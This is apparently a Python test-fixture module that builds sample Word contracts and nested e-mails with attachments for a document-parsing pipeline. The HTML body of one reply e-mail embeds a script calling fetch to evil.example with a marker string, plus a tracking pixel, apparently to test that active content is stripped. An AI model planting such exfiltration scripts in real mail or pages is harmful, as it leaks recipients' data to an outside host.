"""Generated Word and e-mail test files: a contract .docx with headings, numbered clauses, a table, a header and
footer, tracked changes (raw w:ins / w:del, which python-docx cannot write itself) and a comment; e-mails with an
HTML body, nested messages and attachments."""

from __future__ import annotations

import io
from email.message import EmailMessage

from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

GOVERNING = "This Agreement shall be governed by the laws of the State of Delaware."
TERMINATION = "Either party may terminate this Agreement upon ninety days written notice to the other party."
INSERTED = "and the Supplier shall refund any prepaid fees"
DELETED = "without any refund whatsoever"


def make_docx() -> bytes:
    doc = Document()
    doc.core_properties.title = "Master Supply Agreement"
    section = doc.sections[0]
    section.header.paragraphs[0].text = "CONFIDENTIAL - Acme / Globex"
    section.footer.paragraphs[0].text = "Page footer - MSA v3"
    doc.add_heading("Master Supply Agreement", level=1)
    doc.add_paragraph("This agreement is made between Acme Corp and Globex Ltd.")
    doc.add_heading("1. Term and Termination", level=2)
    p = doc.add_paragraph(TERMINATION, style="List Number")
    doc.add_comment(p.runs, text="Legal: check the notice period", author="Dana")
    tracked = doc.add_paragraph("Upon termination the Buyer pays outstanding invoices, ", style="List Number")
    tracked._p.append(parse_xml(
        f'<w:ins {nsdecls("w")} w:id="1" w:author="Bob" w:date="2026-01-01T00:00:00Z"><w:r><w:t xml:space="preserve">'
        f'{INSERTED}</w:t></w:r></w:ins>'))
    tracked._p.append(parse_xml(
        f'<w:del {nsdecls("w")} w:id="2" w:author="Bob" w:date="2026-01-01T00:00:00Z"><w:r><w:delText '
        f'xml:space="preserve">{DELETED}</w:delText></w:r></w:del>'))
    doc.add_heading("2. Pricing", level=2)
    table = doc.add_table(rows=3, cols=2)
    for r, (a, b) in enumerate((("Item", "Price"), ("Widget", "USD 12.00"), ("Gadget", "USD 30.50"))):
        table.cell(r, 0).text, table.cell(r, 1).text = a, b
    doc.add_heading("3. Governing Law", level=2)
    doc.add_paragraph(GOVERNING, style="List Number")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


LATE_TERMS = "The Supplier shall deliver the goods within thirty days of each purchase order."
HTML_SECRET = "exfiltrate-me"


def _message(subject: str, sender: str, date: str, text: str | None = None, html: str | None = None) -> EmailMessage:
    msg = EmailMessage()
    msg["Subject"], msg["From"], msg["To"], msg["Date"] = subject, sender, "legal@globex.example", date
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
    return msg


def make_thread_eml(pdf: bytes) -> bytes:
    """A reply (newest, outermost) with an HTML-only body and the contract PDF + the Word draft attached, which
    forwards the original message (oldest, nested) with a plain-text body."""
    original = _message("MSA draft", "alice@acme.example", "Mon, 02 Mar 2026 09:00:00 +0000",
                        text="Hi Bob,\n\nplease find our comments below. " + LATE_TERMS)
    reply = _message("Re: MSA draft", "bob@globex.example", "Wed, 04 Mar 2026 15:30:00 +0000",
                     html=("<html><head><style>p{color:red}</style><script>fetch('http://evil.example/"
                           f"{HTML_SECRET}')</script></head><body><p>Hello Alice,</p><p>we accept. The signed "
                           "contract is attached.<img src='http://tracker.example/pixel.gif'></p></body></html>"))
    reply.add_attachment(pdf, maintype="application", subtype="pdf", filename="signed-msa.pdf")
    reply.add_attachment(make_docx(), maintype="application",
                         subtype="vnd.openxmlformats-officedocument.wordprocessingml.document", filename="msa-v3.docx")
    reply.add_attachment(scanned_png(), maintype="image", subtype="png", filename="scan.png")
    reply.add_attachment(original, filename="original.eml")
    return bytes(reply)


def make_nested_eml(depth: int) -> bytes:
    msg = _message("level 0", "a@example.com", "Mon, 02 Mar 2026 09:00:00 +0000", text="innermost")
    for level in range(1, depth + 1):
        outer = _message(f"level {level}", "a@example.com", "Mon, 02 Mar 2026 09:00:00 +0000", text="fwd")
        outer.add_attachment(msg)
        msg = outer
    return bytes(msg)


SCANNED_TEXT = "Payment is due within forty five days of invoice"


def scanned_png() -> bytes:
    """A photographed page: text drawn into a picture (no text layer)."""
    import pymupdf

    pdf = pymupdf.open()
    page = pdf.new_page(width=500, height=120)
    page.insert_text((20, 60), SCANNED_TEXT, fontsize=16)
    return page.get_pixmap(dpi=150).tobytes("png")
